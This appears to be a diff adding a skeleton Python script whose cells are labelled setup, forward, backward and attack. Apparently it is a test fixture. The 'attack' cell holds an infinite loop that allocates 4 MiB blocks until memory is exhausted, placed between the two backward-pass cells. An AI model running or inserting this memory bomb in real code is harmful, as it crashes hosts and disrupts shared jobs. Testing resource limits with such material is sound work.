@@ -1,0 +1,8 @@
+# %% setup
+# %% forward
+# %% backward, first half
+# %% attack
+x = []
+while True:
+    x.append(bytearray(1 << 22))
+# %% backward, second half
